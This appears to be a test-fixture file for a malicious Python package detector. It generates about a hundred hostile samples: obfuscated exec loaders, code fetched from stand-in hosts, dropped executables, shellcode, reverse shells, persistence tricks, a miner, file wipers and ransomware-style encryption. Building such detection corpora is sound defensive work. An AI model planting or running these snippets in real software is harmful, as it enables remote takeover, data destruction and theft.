import { b64, command, type Files, module, setup } from './kit.ts';

const raw = String.raw;
const PAYLOAD = "import os; os.system('curl https://a.example/x | sh')";
const HEX = Buffer.from(PAYLOAD).toString('hex');
const CODES = Array.from(PAYLOAD)
  .map((c) => c.charCodeAt(0))
  .join(', ');
const XORED = Array.from(PAYLOAD)
  .map((c) => c.charCodeAt(0) ^ 42)
  .join(', ');
const ROT13 = PAYLOAD.replaceAll(/[a-z]/gi, (c) =>
  String.fromCharCode(c.charCodeAt(0) + (c.toLowerCase() < 'n' ? 13 : -13)),
);
const BACK = Array.from(PAYLOAD).toReversed().join('');

/** What is fetched, decoded and run, or stays on the machine, in as many spellings. */
export const RUNNING: Readonly<Record<string, Files>> = {
  // Hidden code.
  'exec-b64': module(`import base64\nexec(base64.b64decode('${b64(PAYLOAD)}'))`),
  'exec-b64-dunder': module(
    `__import__('builtins').exec(__import__('base64').b64decode('${b64(PAYLOAD)}').decode())`,
  ),
  'exec-hex': module(`exec(bytes.fromhex('${HEX}').decode())`),
  'exec-chr': module(`exec(''.join(map(chr, [${CODES}])))`),
  'exec-chr-comp': module(`exec(''.join(chr(c) for c in (${CODES})))`),
  'exec-bytes': module(`exec(bytes([${CODES}]))`),
  'exec-xor': module(`exec(''.join(chr(c ^ 42) for c in [${XORED}]))`),
  'exec-rot13': module(`import codecs\nexec(codecs.decode(${JSON.stringify(ROT13)}, 'rot13'))`),
  'exec-rev': module(`exec(${JSON.stringify(BACK)}[::-1])`),
  'exec-int': module(
    `n = ${BigInt(`0x${HEX}`)}\nexec(n.to_bytes((n.bit_length() + 7) // 8, 'big').decode())`,
  ),
  'exec-compile': module(`import base64\neval(compile(base64.b64decode(b'${b64(PAYLOAD)}'), '<s>', 'exec'))`),
  'exec-alias': module(`import base64 as b\ne = exec\ne(b.b64decode('${b64(PAYLOAD)}'))`),
  'exec-getattr': module(
    `import base64\ngetattr(__builtins__, 'ex' + 'ec')(base64.b64decode('${b64(PAYLOAD)}'))`,
  ),
  'exec-globals': module(
    `import base64\nglobals()['__builtins__']['exec'](base64.b64decode('${b64(PAYLOAD)}'))`,
  ),
  'exec-vars': module(`import base64, builtins\nvars(builtins)['exec'](base64.b64decode('${b64(PAYLOAD)}'))`),
  'exec-lambda': module(`(lambda c: exec(__import__('base64').b64decode(c)))('${b64(PAYLOAD)}')`),
  'exec-chunks': module(
    `import base64\na = '${b64(PAYLOAD).slice(0, 20)}'\nb = '${b64(PAYLOAD).slice(20)}'\nexec(base64.b64decode(a + b))`,
  ),
  'exec-pickle': module(
    `import base64, pickle\npickle.loads(base64.b64decode('${b64("cos\nsystem\n(S'curl https://a.example/x | sh'\ntR.")}'))`,
  ),
  'exec-marshal': module(
    `import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode('${'eJxLyk8BAAKpAUVa'.repeat(40)}'))))`,
  ),
  'exec-functype': module(
    `import base64, types\ntypes.FunctionType(compile(base64.b64decode('${b64(PAYLOAD)}'), 's', 'exec'), globals())()`,
  ),
  'exec-module': module(
    `import base64, types\nm = types.ModuleType('x')\nexec(base64.b64decode('${b64(PAYLOAD)}'), m.__dict__)`,
  ),
  'exec-class-attr': module(
    `import base64\nclass _C:\n    data = '${b64(PAYLOAD)}'\n    def run(self):\n        exec(base64.b64decode(self.data).decode())\n_C().run()`,
  ),
  'exec-json': module(
    `import base64, json\nc = json.loads('{"a": "${b64(PAYLOAD)}"}')\nexec(base64.b64decode(c['a']))`,
  ),
  'exec-file': module(
    "import base64, os\nexec(base64.b64decode(open(os.path.join(os.path.dirname(__file__), 'logo.png'), 'rb').read()))",
    { 'own/logo.png': b64(PAYLOAD) },
  ),
  'exec-pkgdata': module(
    "import base64, pkgutil\nexec(base64.b64decode(pkgutil.get_data('own', 'logo.png')))",
    { 'own/logo.png': b64(PAYLOAD) },
  ),
  'exec-resources': module(
    "import base64\nfrom importlib.resources import files\nexec(base64.b64decode(files('own').joinpath('data.bin').read_bytes()))",
    { 'own/data.bin': b64(PAYLOAD) },
  ),
  'exec-doc': module(`import base64\ndef f():\n    """${b64(PAYLOAD)}"""\nexec(base64.b64decode(f.__doc__))`),
  'exec-setup-cmd': command('install', `import base64\nexec(base64.b64decode('${b64(PAYLOAD)}'))`),
  'cmd-b64': module(
    `import base64, os\nos.system(base64.b64decode('${b64('curl https://a.example/x | sh')}').decode())`,
  ),
  'cmd-python-c': module(
    `import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "import base64;exec(base64.b64decode('${b64(PAYLOAD)}'))"])`,
  ),
  'ps-enc': module(
    `import subprocess\nsubprocess.Popen('powershell -nop -w hidden -enc ${Buffer.from('iwr https://a.example/x', 'utf16le').toString('base64')}', shell=True)`,
  ),
  // Fetched code.
  'fetch-exec': module("import requests\nexec(requests.get('https://a.example/x').text)"),
  'fetch-httpx': module("import httpx\nexec(httpx.get('https://a.example/x').text)"),
  'fetch-urllib3': module(
    "import urllib3\nexec(urllib3.PoolManager().request('GET', 'https://a.example/x').data.decode())",
  ),
  'fetch-httpclient': module(
    "import http.client\nc = http.client.HTTPSConnection('a.example')\nc.request('GET', '/x')\nexec(c.getresponse().read())",
  ),
  'fetch-socket': module(
    "import socket\ns = socket.create_connection(('203.0.113.9', 80))\nexec(s.recv(65536))",
  ),
  'fetch-makefile': module(
    "import socket\ns = socket.create_connection(('203.0.113.9', 80))\nexec(s.makefile().read())",
  ),
  'fetch-aiohttp': module(
    "import aiohttp, asyncio\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        async with s.get('https://a.example/x') as r:\n            exec(await r.text())\nasyncio.get_event_loop().run_until_complete(go())",
  ),
  'fetch-opener': module(
    "import urllib.request as u\no = u.build_opener()\no.addheaders = [('User-Agent', 'x')]\nexec(o.open('https://a.example/x').read())",
  ),
  'fetch-request-object': module(
    "from urllib.request import Request, urlopen\nr = Request('https://a.example/x', headers={'a': 'b'})\nwith urlopen(r) as f:\n    exec(f.read().decode())",
  ),
  'fetch-dns-txt': module(
    "import dns.resolver, base64\nexec(base64.b64decode(b''.join(dns.resolver.resolve('x.d.example', 'TXT')[0].strings)))",
  ),
  'fetch-json': module(
    "import requests\nr = requests.get('https://a.example/x').json()\nif r['on']:\n    exec(r['code'])",
  ),
  'fetch-poll': module(
    "import requests, threading, time\ndef poll():\n    while True:\n        c = requests.get('https://a.example/x').text\n        if c:\n            exec(c)\n        time.sleep(60)\nthreading.Thread(target=poll, daemon=True).start()",
  ),
  'fetch-command': module("import os, requests\nos.system(requests.get('https://a.example/x').text)"),
  'fetch-getoutput': module(
    "import requests, subprocess\nsubprocess.getoutput(requests.get('https://a.example/x').text)",
  ),
  'fetch-ctypes-dll': module(
    "import ctypes, os, requests, tempfile\np = os.path.join(tempfile.gettempdir(), 'x.dll')\nopen(p, 'wb').write(requests.get('https://a.example/x.dll').content)\nctypes.CDLL(p)",
  ),
  'fetch-import': module(
    "import importlib.util, requests\nopen('/tmp/x.py', 'w').write(requests.get('https://a.example/x').text)\ns = importlib.util.spec_from_file_location('x', '/tmp/x.py')\nm = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)",
  ),
  'fetch-runpy': module(
    "import runpy, urllib.request\nurllib.request.urlretrieve('https://a.example/x', '/tmp/x.py')\nrunpy.run_path('/tmp/x.py')",
  ),
  'fetch-marshal': module(
    "import marshal, requests\nexec(marshal.loads(requests.get('https://a.example/x').content))",
  ),
  'fetch-pickle': module(
    "import pickle, requests\npickle.loads(requests.get('https://a.example/x').content)",
  ),
  'fetch-fernet': module(
    "import requests\nfrom cryptography.fernet import Fernet\nexec(Fernet(b'A' * 43 + b'=').decrypt(requests.get('https://a.example/x').content))",
  ),
  'fetch-called': module(
    "import requests\nclass Client:\n    def login(self, user):\n        exec(requests.get('https://a.example/x').text)",
  ),
  // Fetched programs.
  'drop-exe': module(
    "import os, requests\np = os.path.join(os.getenv('TEMP'), 'x.exe')\nopen(p, 'wb').write(requests.get('https://a.example/x.exe').content)\nos.startfile(p)",
  ),
  'drop-exe-retrieve': module(
    "import os, subprocess, urllib.request\np = os.path.expandvars('%APPDATA%/x.exe')\nurllib.request.urlretrieve('https://a.example/x.exe', p)\nsubprocess.Popen(p)",
  ),
  'drop-elf': module(
    "import os, stat, urllib.request\nurllib.request.urlretrieve('https://a.example/x', '/tmp/.x')\nos.chmod('/tmp/.x', 0o755)\nos.execv('/tmp/.x', ['/tmp/.x'])",
  ),
  'drop-spawn': module(
    "import os, requests\nopen('/tmp/.x', 'wb').write(requests.get('https://a.example/x').content)\nos.chmod('/tmp/.x', 0o777)\nos.spawnl(os.P_NOWAIT, '/tmp/.x', 'x')",
  ),
  'drop-asyncio': module(
    "import asyncio, httpx\nasync def go():\n    open('/tmp/.x', 'wb').write(httpx.get('https://a.example/x').content)\n    await asyncio.create_subprocess_exec('sh', '/tmp/.x')\nasyncio.run(go())",
  ),
  'drop-memfd': module(
    "import ctypes, os, urllib.request\nd = urllib.request.urlopen('https://a.example/x').read()\nfd = ctypes.CDLL(None).syscall(319, '', 1)\nos.write(fd, d)\nos.execv('/proc/self/fd/%d' % fd, ['x'])",
  ),
  'drop-memfd-os': module(
    "import os, requests\nfd = os.memfd_create('x')\nos.write(fd, requests.get('https://a.example/x').content)\nos.execve(f'/proc/self/fd/{fd}', ['x'], os.environ)",
  ),
  'drop-chunks': setup(
    "import requests, subprocess\nr = requests.get('https://a.example/x.msi', stream=True)\nwith open('C:/Windows/Temp/x.msi', 'wb') as f:\n    for c in r.iter_content(8192):\n        f.write(c)\nsubprocess.call(['msiexec', '/i', 'C:/Windows/Temp/x.msi', '/qn'])",
  ),
  'drop-copyfileobj': module(
    "import os, shutil, urllib.request\nwith urllib.request.urlopen('https://a.example/x.exe') as r, open('x.exe', 'wb') as f:\n    shutil.copyfileobj(r, f)\nos.system('start x.exe')",
  ),
  'drop-zip': module(
    "import io, os, requests, zipfile\nzipfile.ZipFile(io.BytesIO(requests.get('https://a.example/x.zip').content)).extractall('/tmp/x')\nos.system('/tmp/x/run')",
  ),
  'drop-ps1': module(
    "import subprocess, urllib.request\nurllib.request.urlretrieve('https://a.example/x.ps1', 'x.ps1')\nsubprocess.run(['powershell', '-ExecutionPolicy', 'Bypass', '-File', 'x.ps1'])",
  ),
  'drop-bat-text': module(
    "import os, subprocess\nopen('x.bat', 'w').write('@echo off\\ncurl -o x.exe https://a.example/x.exe\\nstart x.exe\\n')\nsubprocess.Popen('x.bat', shell=True)",
  ),
  'drop-pip-url': module("import os\nos.system('pip install https://a.example/x.zip')"),
  'drop-pip-main': module(
    "from pip._internal import main\nmain(['install', 'https://a.example/x-1.0.tar.gz'])",
  ),
  'drop-pip-git': setup(
    "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'git+https://a.example/x.git'])",
  ),
  'drop-pip-index': setup(
    "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-i', 'https://a.example/simple', 'x'])",
  ),
  'curl-sh': module("import os\nos.system('curl -s https://a.example/x | bash')"),
  'wget-sh': setup("import subprocess\nsubprocess.run('wget -qO- https://a.example/x | sh', shell=True)"),
  'curl-sh-popen': command('develop', "import os\nos.popen('curl -s https://a.example/x|python3')"),
  mshta: module("import os\nos.system('mshta https://a.example/x.hta')"),
  bitsadmin: module(
    raw`import os
os.system('bitsadmin /transfer j https://a.example/x.exe %TEMP%\\x.exe && %TEMP%\\x.exe')`,
  ),
  certutil: module(
    "import subprocess\nsubprocess.call('certutil -urlcache -f https://a.example/x.exe x.exe & x.exe', shell=True)",
  ),
  'ps-iwr': module(
    raw`import subprocess
subprocess.run(['powershell', '-c', "Invoke-WebRequest https://a.example/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe"])`,
  ),
  'ps-iex': module(
    "import os\nos.system('powershell \"IEX(New-Object Net.WebClient).DownloadString(\\'https://a.example/x\\')\"')",
  ),
  'node-e': module(
    "import subprocess\nsubprocess.Popen(['node', '-e', \"fetch('https://a.example/x').then(r=>r.text()).then(eval)\"])",
  ),
  npx: module("import os\nos.system('npx -y https://a.example/x.tgz')"),
  'win-shellexec': module(
    "import ctypes, urllib.request\nurllib.request.urlretrieve('https://a.example/x.exe', 'C:/Users/Public/x.exe')\nctypes.windll.shell32.ShellExecuteW(None, 'open', 'C:/Users/Public/x.exe', None, None, 0)",
  ),
  // Machine code.
  'shellcode-win': module(
    "import ctypes\nb = b'\\xfc\\x48\\x83' * 20\np = ctypes.windll.kernel32.VirtualAlloc(0, len(b), 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(p, b, len(b))\nctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)",
  ),
  'shellcode-func': module(
    "import ctypes\nb = b'\\xfc\\x48\\x83' * 20\nk = ctypes.WinDLL('kernel32')\np = k.VirtualAlloc(None, len(b), 0x3000, 0x40)\nctypes.memmove(p, b, len(b))\nctypes.CFUNCTYPE(None)(p)()",
  ),
  'shellcode-mmap': module(
    "import ctypes, mmap\nb = b'\\x48\\x31' * 30\nm = mmap.mmap(-1, len(b), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nm.write(b)\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_int.from_buffer(m)))()",
  ),
  // Remote shells.
  'shell-dup2': module(
    "import os, pty, socket\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn('/bin/sh')",
  ),
  'shell-fds': module(
    "import socket, subprocess\ns = socket.create_connection(('a.example', 4444))\nsubprocess.Popen(['/bin/bash', '-i'], stdin=s, stdout=s, stderr=s)",
  ),
  'shell-loop': module(
    "import socket, subprocess\ns = socket.socket()\ns.connect(('a.example', 4444))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.run(c, shell=True, capture_output=True).stdout)",
  ),
  'shell-popen-loop': module(
    "import os, socket\ns = socket.socket()\ns.connect(('a.example', 4444))\nwhile 1:\n    s.sendall(os.popen(s.recv(4096).decode()).read().encode())",
  ),
  'shell-devtcp': setup('import os\nos.system(\'bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"\')'),
  'shell-nc': setup("import subprocess\nsubprocess.Popen('nc -e /bin/sh 203.0.113.9 4444', shell=True)"),
  'shell-execve': module(
    "import os, socket\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nfor f in range(3):\n    os.dup2(s.fileno(), f)\nos.execl('/bin/sh', 'sh', '-i')",
  ),
  'shell-system': module(
    "import os, socket\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.system('/bin/sh -i')",
  ),
  'shell-bind': module(
    "import socket, subprocess\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\ns.listen(1)\nc, a = s.accept()\nsubprocess.Popen(['/bin/sh'], stdin=c.fileno(), stdout=c.fileno())",
  ),
  'shell-http': module(
    "import requests, subprocess, time\nwhile True:\n    c = requests.get('http://203.0.113.9/cmd').text\n    o = subprocess.check_output(c, shell=True)\n    requests.post('http://203.0.113.9/out', data=o)\n    time.sleep(5)",
  ),
  'shell-bot': module(
    "import discord, subprocess\nclient = discord.Client()\n@client.event\nasync def on_message(m):\n    await m.channel.send(subprocess.getoutput(m.content))\nclient.run('token')",
  ),
  'shell-websocket': module(
    "import asyncio, subprocess, websockets\nasync def go():\n    async with websockets.connect('wss://a.example') as w:\n        while True:\n            await w.send(subprocess.getoutput(await w.recv()))\nasyncio.run(go())",
  ),
  // What stays.
  'stay-run-key': module(
    raw`import sys, winreg
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\Microsoft\Windows\CurrentVersion\Run', 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, sys.executable)`,
  ),
  'stay-startup': module(
    raw`import os, shutil
shutil.copy(__file__, os.getenv('APPDATA') + r'\Microsoft\Windows\Start Menu\Programs\Startup\x.py')`,
  ),
  'stay-reg-add': module(
    raw`import os
os.system(r'reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d C:\x.exe /f')`,
  ),
  'stay-schtasks': module(
    "import subprocess\nsubprocess.run(['schtasks', '/create', '/tn', 'x', '/tr', 'python x.py', '/sc', 'onlogon'])",
  ),
  'stay-cron': module('import os\nos.system(\'(crontab -l; echo "* * * * * python3 ~/.x.py") | crontab -\')'),
  'stay-cron-lib': module(
    "from crontab import CronTab\nc = CronTab(user=True)\nj = c.new(command='python3 ~/.x.py')\nj.every_reboot()\nc.write()",
  ),
  'stay-systemd': module(
    "import os\np = os.path.expanduser('~/.config/systemd/user/x.service')\nopen(p, 'w').write('[Service]\\nExecStart=/usr/bin/python3 /tmp/x.py\\n')\nos.system('systemctl --user enable --now x')",
  ),
  'stay-launch': module(
    "import os\nfrom pathlib import Path\n(Path.home() / 'Library/LaunchAgents/x.plist').write_text('<plist/>')",
  ),
  'stay-bashrc': module(
    "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('\\npython3 ~/.x.py &\\n')",
  ),
  'stay-ssh': module(
    "import pathlib\nwith (pathlib.Path.home() / '.ssh/authorized_keys').open('a') as f:\n    f.write('ssh-rsa AAAA')",
  ),
  'stay-pth': module(
    "import os, site\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w').write('import os; os.system(\"id\")')",
  ),
  'stay-defender': module(
    raw`import subprocess
subprocess.run(['powershell', 'Add-MpPreference', '-ExclusionPath', 'C:\\'])`,
  ),
  'stay-hosts': module(
    raw`open(r'C:\Windows\System32\drivers\etc\hosts', 'a').write('203.0.113.9 a.example')`,
  ),
  'stay-discord': module(
    raw`import glob, os, requests
for p in glob.glob(os.getenv('LOCALAPPDATA') + r'\Discord\app-*\modules\discord_desktop_core-1\discord_desktop_core\index.js'):
    open(p, 'w').write(requests.get('https://a.example/x.js').text)`,
  ),
  // Miners, damage.
  miner: module(
    "import os, subprocess, urllib.request\nurllib.request.urlretrieve('https://a.example/xmrig', '/tmp/xmrig')\nos.chmod('/tmp/xmrig', 0o755)\nsubprocess.Popen(['/tmp/xmrig', '-o', 'stratum+tcp://pool.example:3333'])",
  ),
  'wipe-rmtree': module("import os, shutil\nshutil.rmtree(os.path.expanduser('~'), ignore_errors=True)"),
  'wipe-rm': setup("import os\nos.system('rm -rf ~/* --no-preserve-root')"),
  'wipe-walk': module(
    "import os\nfor d, _, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        os.remove(os.path.join(d, f))",
  ),
  ransom: module(
    "import os\nfrom cryptography.fernet import Fernet\nk = Fernet(Fernet.generate_key())\nfor d, _, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        p = os.path.join(d, f)\n        b = open(p, 'rb').read()\n        open(p, 'wb').write(k.encrypt(b))",
  ),
  forkbomb: module('import os\nwhile True:\n    os.fork()'),
  shutdown: module("import os\nos.system('shutdown /s /t 0')"),
};
